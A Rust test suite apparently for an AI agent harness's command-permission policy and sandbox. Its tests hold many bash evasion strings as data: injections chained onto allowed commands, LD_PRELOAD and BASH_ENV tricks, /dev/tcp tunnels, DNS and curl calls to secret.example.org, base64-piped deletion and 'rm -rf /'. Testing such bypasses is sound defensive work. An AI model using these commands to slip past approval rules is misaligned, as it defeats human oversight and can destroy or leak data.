//! I-01 to I-16: commands that ran without the approval that they needed.

use std::sync::{Arc, Mutex};

use serde_json::json;
use windlass::people::ApprovalRequest;
use windlass::policy::Decision;
use windlass::process::SandboxLevel;
use windlass::{Mode, Outcome, Undo};

use super::outsider::OutsideServer;
use super::{
    at_level, bash_arguments, decide, directory_outside_tmp, workspace_in_mode,
    workspace_in_mode_ask,
};
use crate::support::{TestWorkspace, text};

/// Files in the workspace of every command.
const FILES: &[(&str, &str)] = &[("a", "one\ntwo\n"), ("sub/b", "three\n")];

/// Checks that these allow rules allow no attack, although each attack changes a file when it is run, and allow every benign command, so
/// that a policy which always asks would fail.
async fn check(rules: &[&str], attacks: &[&str], benign: &[&str]) {
    let test = workspace_in_mode_ask(FILES, rules);
    let free = TestWorkspace::in_memory(&[]);
    for attack in attacks {
        reset_files(&free);
        let before = free.tree();
        let result = free.call("bash", bash_arguments(attack)).await;
        assert!(before != free.tree(), "{attack:?} does nothing: {}", text(&result));
        assert_ne!(
            decide(&test, "bash", bash_arguments(attack)).await,
            Decision::Allow,
            "{attack:?}"
        );
    }
    for command in benign {
        assert_eq!(
            decide(&test, "bash", bash_arguments(command)).await,
            Decision::Allow,
            "{command:?}"
        );
    }
}

/// Resets the workspace to the files that every command begins with.
fn reset_files(test: &TestWorkspace) {
    std::fs::remove_dir_all(test.path("sub")).ok();
    for entry in std::fs::read_dir(test.workspace()).unwrap() {
        std::fs::remove_file(entry.unwrap().path()).unwrap();
    }
    for (name, content) in FILES {
        test.put(name, content);
    }
}

#[tokio::test]
async fn i_01_rule_for_echo_does_not_allow_following_commands() {
    check(
        &["exec echo"],
        &[
            "echo hi; touch canary",
            "echo hi && touch canary",
            "echo hi & touch canary; wait",
            "echo hi\ntouch canary",
            "echo hi | tee canary",
            "echo \"$(touch canary)\"",
            "echo `touch canary`",
            "echo <(touch canary); sleep 0.2",
            "echo \"<<x\"; touch canary; echo \"x\"",
            "echo hi #\\\ntouch canary",
        ],
        &["echo hi", "echo 'hi; touch canary'", "echo hi # ; touch canary"],
    )
    .await;
}

#[tokio::test]
async fn i_02_rule_for_a_search_does_not_allow_the_programs_that_it_runs() {
    check(
        &["exec find", "exec tar", "exec git log", "exec sort"],
        &[
            "find . -name a -exec touch canary ';'",
            "find . -name a -execdir touch canary \\;",
            "find . -name a -delete",
            "find . -fprint canary",
            "tar cf /dev/null a --checkpoint=1 --checkpoint-action=exec='touch canary'",
            "tar cf canary a",
            "sort a -o canary",
        ],
        &["find . -name a", "sort a"],
    )
    .await;
    // Not every machine has the programs and repositories for these.
    let test = workspace_in_mode_ask(FILES, &["exec rg", "exec git", "exec man", "exec sort"]);
    for attack in [
        "rg --pre ./evil x",
        "rg --pre=./evil x",
        "rg --hostname-bin=./evil --hyperlink-format='{host}' x",
        "git -c core.pager=./evil -p log",
        "git --exec-path=. log",
        "git log --output=canary",
        "git grep -O./evil x",
        "man -P ./evil man",
        "sort --compress-program=./evil -S 1k a",
    ] {
        assert_ne!(
            decide(&test, "bash", bash_arguments(attack)).await,
            Decision::Allow,
            "{attack}"
        );
    }
    for command in ["rg x", "git log --oneline"] {
        assert_eq!(
            decide(&test, "bash", bash_arguments(command)).await,
            Decision::Allow,
            "{command}"
        );
    }
}

#[tokio::test]
async fn i_03_sed_that_writes_or_runs_programs_needs_approval() {
    check(
        &["exec sed"],
        &[
            "sed -n 'w canary' a",
            "sed -n 1wcanary a",
            "sed s/one/two/wcanary a",
            "sed 's/one/two/gw canary' a",
            "sed '1e touch canary' a",
            "sed 's/.*/touch canary/e' a",
            "sed -ne 'p;W canary' a",
            "sed -i s/one/two/ a",
            "sed -ibak s/one/two/ a",
            "sed --in-place=.bak s/one/two/ a",
            "sed --in-pl s/one/two/ a",
            "sed -n -i p a",
            "echo '1e touch canary' | sed -f /dev/stdin a",
        ],
        &["sed -n 1p a", "sed s/one/two/ a", "sed -e '1,2d' a"],
    )
    .await;
}

#[tokio::test]
async fn i_04_policy_reads_a_command_as_bash_does() {
    check(
        &["exec echo", "exec sort", "exec cat", "exec find"],
        &[
            "echo${IFS}x>canary",
            "echo$IFS\"x\">canary",
            "{touch,canary}",
            "a=touch; $a canary",
            "sort -ocanary a",
            "sort -uocanary a",
            "sort --outp=canary a",
            "find . -maxdepth 0 -fls canary",
            "t\\\nouch canary",
            "$'\\x74ouch' canary",
            "cat a|t'ou'ch canary",
            "echo x >\\\ncanary",
            "if touch canary; then echo x; fi",
            "echo() { touch canary; }; echo x",
        ],
        &["sort -u a", "cat a", "e'ch'o x"],
    )
    .await;
}

/// A DNS query sends data to the owner of the domain, like a connection does.
#[tokio::test]
async fn i_05_read_only_command_has_no_network() {
    let test = workspace_in_mode_ask(FILES, &[]);
    for command in [
        "ping -c 1 secret.example.org",
        "nslookup secret.example.org",
        "dig secret.example.org",
        "host secret.example.org",
        "getent hosts secret.example.org",
        "curl http://secret.example.org/",
        "cat < /dev/tcp/127.0.0.1/80",
    ] {
        assert_ne!(
            decide(&test, "bash", bash_arguments(command)).await,
            Decision::Allow,
            "{command}"
        );
    }
    let outsider = OutsideServer::new();
    let port = outsider.port();
    let attempt = format!("echo x > /dev/tcp/127.0.0.1/{port}; echo x > /dev/udp/127.0.0.1/{port}");
    for (level, is_reached) in [
        (SandboxLevel::Workspace, false),
        (SandboxLevel::ReadOnly, false),
        (SandboxLevel::Off, true),
    ] {
        let test = TestWorkspace::with_builder(FILES, |builder| builder.processes(at_level(level)));
        test.call("bash", bash_arguments(&attempt)).await;
        assert_eq!(outsider.was_reached(), is_reached, "sandbox {level}");
    }
}

#[tokio::test]
async fn i_06_deny_rule_holds_behind_any_number_of_commands() {
    for mode in [Mode::Ask, Mode::Auto, Mode::Yolo] {
        let test = TestWorkspace::with_builder(FILES, |builder| {
            builder.mode(mode).allow("exec echo".parse().unwrap()).deny("exec rm".parse().unwrap())
        });
        for count in [0, 1, 49, 50, 51, 1_000, 20_000] {
            let command = format!("{}rm a", "echo x; ".repeat(count));
            let decision = decide(&test, "bash", bash_arguments(&command)).await;
            assert_ne!(decision, Decision::Allow, "behind {count} commands, mode {mode}");
            test.call_refused("bash", bash_arguments(&command)).await;
        }
        let harmless = format!("{}echo y", "echo x; ".repeat(60));
        assert_eq!(
            decide(&test, "bash", bash_arguments(&harmless)).await,
            Decision::Allow,
            "{mode}"
        );
    }
}

#[tokio::test]
async fn i_07_redirection_is_a_write_also_behind_an_allowed_command() {
    check(
        &["exec echo", "exec cat", "exec ls"],
        &[
            "echo x > canary",
            "echo x >> a",
            "echo x >| canary",
            "echo x &> canary",
            "echo x >& canary",
            "ls nothing 2> canary",
            "cat < a > canary",
            "cat a 1<> canary; echo x > canary",
            "> canary",
            "{ echo x; } > canary",
            "(echo x) > canary",
            "cat <<< x > canary",
        ],
        &["echo x > /dev/null", "ls 2>&1", "cat < a"],
    )
    .await;
    let test = workspace_in_mode_ask(FILES, &["exec echo", "write canary"]);
    for (command, decision) in
        [("echo x > canary", Decision::Allow), ("echo x > other", Decision::Ask)]
    {
        assert_eq!(decide(&test, "bash", bash_arguments(command)).await, decision, "{command}");
    }
}

#[tokio::test]
async fn i_08_expansions_that_run_code_are_not_allowed_as_arguments() {
    check(
        &["exec echo", "exec printf"],
        &[
            "x='$(touch canary)'; echo ${x@P}",
            "echo ${x:=$(touch canary)}",
            "echo ${x:-`touch canary`}",
            "x='a[$(touch canary)]'; echo ${!x}",
            "x='a[$(touch canary)]'; echo $((x))",
            "echo \"${x:+y}$(touch canary)\"",
            "printf -v 'a[$(touch canary)]' x",
        ],
        &["echo x", "printf '%s\\n' x"],
    )
    .await;
    for dynamic in ["echo ${x@P}", "echo ${x:=y}", "echo ${!x}", "echo $x", "echo $((1))"] {
        let test = workspace_in_mode_ask(FILES, &["exec echo"]);
        assert_ne!(
            decide(&test, "bash", bash_arguments(dynamic)).await,
            Decision::Allow,
            "{dynamic}"
        );
    }
}

#[tokio::test]
async fn i_09_rule_for_the_first_command_does_not_allow_the_next() {
    check(
        &["exec ls", "exec git status"],
        &[
            "ls && touch canary",
            "ls nothing || touch canary",
            "ls; touch canary",
            "ls | touch canary",
            "ls |& touch canary",
            "ls > canary",
            "git status; touch canary",
            "! git status && touch canary || touch canary",
            "ls <<x\nx\ntouch canary",
        ],
        &["ls && ls", "git status -s", "ls | ls"],
    )
    .await;
}

/// A text that the parser does not understand is never covered by a rule, even if almost everything is allowed.
#[tokio::test]
async fn i_10_command_that_cannot_be_parsed_needs_approval() {
    let attacks = [
        "echo $[ a[$(touch canary)0] ]",
        "echo $(( a[$(touch canary)0] ))",
        "x='a[$(touch canary)0]'; echo $[ x ]",
        "[[ -v a[$(touch canary)0] ]]; echo",
        "test -v 'a[$(touch canary)0]'; echo",
        "let 'a[$(touch canary)0]=1'; echo",
    ];
    check(&["exec echo", "exec test"], &attacks, &["echo x"]).await;
    let deny =
        TestWorkspace::with_builder(FILES, |builder| builder.deny("exec touch".parse().unwrap()));
    for broken in attacks.into_iter().chain(["echo 'open", "echo \"$(", "if ls", "echo x)", "((("])
    {
        assert_ne!(
            decide(&deny, "bash", bash_arguments(broken)).await,
            Decision::Allow,
            "{broken}"
        );
    }
    assert_eq!(decide(&deny, "bash", bash_arguments("echo x")).await, Decision::Allow);
}

#[tokio::test]
async fn i_11_environment_of_a_call_does_not_reach_the_next() {
    let test = workspace_in_mode_ask(FILES, &["exec ls"]);
    for command in [
        "export PATH=.:$PATH",
        "typeset -x PAGER=./evil",
        "declare -x BASH_ENV=./evil",
        "alias ls='touch canary'",
        "hash -p ./evil ls",
        "enable -n test",
        "PATH=. ls",
        "LD_PRELOAD=./evil.so ls",
        "env LD_PRELOAD=./evil.so ls",
        "trap 'touch canary' EXIT",
        "shopt -s expand_aliases",
        "source ./evil",
    ] {
        assert_ne!(
            decide(&test, "bash", bash_arguments(command)).await,
            Decision::Allow,
            "{command}"
        );
    }
    let free = TestWorkspace::with(FILES);
    let prepare = "export EVIL=1 BASH_ENV=$PWD/a PATH=$PWD:$PATH; cd sub; umask 0; set -f; \
                   ls() { echo poisoned; }; export -f ls; alias cat=false; ulimit -n 10; \
                   printenv EVIL; pwd; ls";
    let look = "printenv EVIL BASH_ENV; pwd; umask; ls; ulimit -n; echo \"$PATH\"";
    let before = text(&free.call("bash", bash_arguments(look)).await);
    let inside = text(&free.call_ok("bash", bash_arguments(prepare)).await);
    assert!(inside.starts_with("1\n") && inside.contains("/sub\npoisoned\n"), "{inside}");
    assert_eq!(text(&free.call("bash", bash_arguments(look)).await), before);
}

#[tokio::test]
async fn i_12_no_program_can_open_a_tunnel() {
    let outsider = OutsideServer::new();
    let port = outsider.port();
    let test = workspace_in_mode_ask(FILES, &[]);
    let tunnels = [
        format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo x >&3"),
        format!("bash -c 'echo x >& /dev/tcp/127.0.0.1/{port}'"),
        format!("export A=1; setsid -w bash -c 'echo x > /dev/tcp/127.0.0.1/{port}'"),
    ];
    for (level, is_reached) in [(SandboxLevel::Workspace, false), (SandboxLevel::Off, true)] {
        let free = TestWorkspace::with_builder(FILES, |builder| builder.processes(at_level(level)));
        for tunnel in &tunnels {
            assert_ne!(
                decide(&test, "bash", bash_arguments(tunnel)).await,
                Decision::Allow,
                "{tunnel}"
            );
            for background in [false, true] {
                let input = json!({"command": tunnel, "background": background});
                free.call("bash", input).await;
                for job in free.session.all_jobs() {
                    job.wait().await;
                }
                assert_eq!(outsider.was_reached(), is_reached, "sandbox {level}: {tunnel}");
            }
        }
    }
}

/// A deny rule for a program can be evaded by another spelling; the protection of a file cannot.
#[tokio::test]
async fn i_13_files_are_protected_however_a_program_is_named() {
    let spellings = [
        "rm a",
        "/bin/rm a",
        "\\rm a",
        "r\"\"m a",
        "command rm a",
        "env rm a",
        "find . -name a -delete",
        "perl -e 'unlink \"a\"'",
        "bash -c 'rm a'",
        "echo cm0gYQ== | base64 -d | sh",
        "mv a c",
        "x=r; ${x}m a",
    ];
    for spelling in spellings {
        let test = TestWorkspace::with(FILES);
        let before = test.tree();
        test.call_ok("bash", bash_arguments(spelling)).await;
        assert!(!test.path("a").exists(), "{spelling} shows nothing");
        assert_eq!(test.undo(Undo::Last).await.outcome, Outcome::Ok);
        before.assert_same(&test.tree(), spelling);
        let bound =
            TestWorkspace::with_builder(FILES, |builder| builder.deny("write a".parse().unwrap()));
        bound.call_refused("bash", bash_arguments(spelling)).await;
        let named =
            TestWorkspace::with_builder(FILES, |builder| builder.deny("exec rm".parse().unwrap()));
        if spelling.contains("rm a") && !spelling.contains("${x}") {
            assert_ne!(decide(&named, "bash", bash_arguments(spelling)).await, Decision::Allow);
        }
    }
}

/// Every tool that starts programs starts them in the same sandbox.
#[tokio::test]
async fn i_14_all_programs_are_started_in_the_sandbox() {
    let tools = tempfile::tempdir().unwrap();
    let outside = directory_outside_tmp();
    let target = outside.path().join("canary");
    // The mode allows a write that the policy can see in the command line; this one it cannot see.
    let command = format!("python3 -c 'open(\\\"{}\\\", \\\"w\\\")'", target.display());
    let command = command.replace('\\', "");
    let file = format!("---\nname: mine\ncommand: {command}\n---\nTry.\n");
    std::fs::write(tools.path().join("mine.md"), file).unwrap();
    let ways = [
        ("bash", bash_arguments(&command)),
        ("bash", json!({"command": command, "pty": true})),
        ("bash", json!({"command": command, "background": true})),
        ("bash", json!({"command": format!("cat | {{ {command}; }}"), "stdin": "x"})),
        ("test", json!({"command": command})),
        ("mine", json!({})),
    ];
    for (level, gets_out) in [(SandboxLevel::Workspace, false), (SandboxLevel::Off, true)] {
        let test = TestWorkspace::with_builder(FILES, |builder| {
            builder.processes(at_level(level)).command_tools(tools.path())
        });
        for (tool, input) in &ways {
            test.call(tool, input.clone()).await;
            // The call does not wait for its job, and `end_jobs` would stop it in the middle.
            for job in test.session.all_jobs() {
                job.wait().await;
            }
            assert_eq!(target.exists(), gets_out, "sandbox {level}: {tool} {input}");
            std::fs::remove_file(&target).ok();
        }
    }
}

/// `i_15` is about the home directory; its test is in `cli`, with a temporary home.
#[tokio::test]
async fn i_16_approval_shows_the_expanded_paths() {
    let asked = Arc::new(Mutex::new(Vec::new()));
    let hears = asked.clone();
    let test = TestWorkspace::with_builder(&[("~/kept", "x\n")], |builder| {
        builder.mode(Mode::Ask).ask_before(true).attendant(move |request: &ApprovalRequest| {
            hears.lock().unwrap().push(request.effects.to_string());
            false
        })
    });
    let workspace = test.workspace();
    for (command, meant) in [
        ("rm -rf ./~", workspace.join("~")),
        ("rm -rf '~'", workspace.join("~")),
        ("rm -rf sub/..", workspace.clone()),
    ] {
        let result = test.call("bash", bash_arguments(command)).await;
        assert_eq!(result.outcome, Outcome::Denied, "{command}");
        let shown = asked.lock().unwrap().pop().unwrap_or_else(|| text(&result));
        assert!(shown.contains(&format!("delete {}", meant.display())), "{command}: {shown}");
    }
    // An unquoted `~` is no directory of the workspace, and must not be shown as one.
    let result = test.call("bash", bash_arguments("rm -rf ~/nothing-here")).await;
    assert_eq!(result.outcome, Outcome::Denied);
    let shown = asked.lock().unwrap().pop().unwrap_or_else(|| text(&result));
    assert!(!shown.contains(&format!("delete {}", workspace.join("~").display())), "{shown}");
    for command in ["cat ~/file", "ls ~", "cat ~root/file", "cat < ~/file", "head ~+/../file"] {
        let decision =
            decide(&workspace_in_mode_ask(&[], &[]), "bash", bash_arguments(command)).await;
        assert_ne!(decision, Decision::Allow, "{command}");
    }
    let yolo = workspace_in_mode(Mode::Yolo, &[], &[]);
    let above = format!("rm -rf {}", yolo.parent_directory().display());
    for command in ["rm -rf ..", "rm -rf ../../", &above, "rm -rf /"] {
        assert_eq!(
            decide(&yolo, "bash", bash_arguments(command)).await,
            Decision::Deny,
            "{command}"
        );
    }
}
